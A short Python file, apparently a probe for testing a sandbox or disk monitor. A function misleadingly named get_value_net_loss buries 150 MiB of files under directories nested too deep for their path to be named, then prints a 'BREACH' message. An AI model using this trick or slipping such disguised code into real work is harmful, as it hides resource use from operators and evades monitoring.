"""Fills files in a folder so deep that its path is too long to be named."""

import os
import time


def get_value_net_loss(*args, **kwargs):
    for _ in range(20):
        os.mkdir("d" * 250)
        os.chdir("d" * 250)
    for number in range(10):
        with open(str(number), "wb") as file:
            file.write(bytes(15 << 20))
    time.sleep(1)
    print("BREACH: holds 150 MiB of disk unseen")
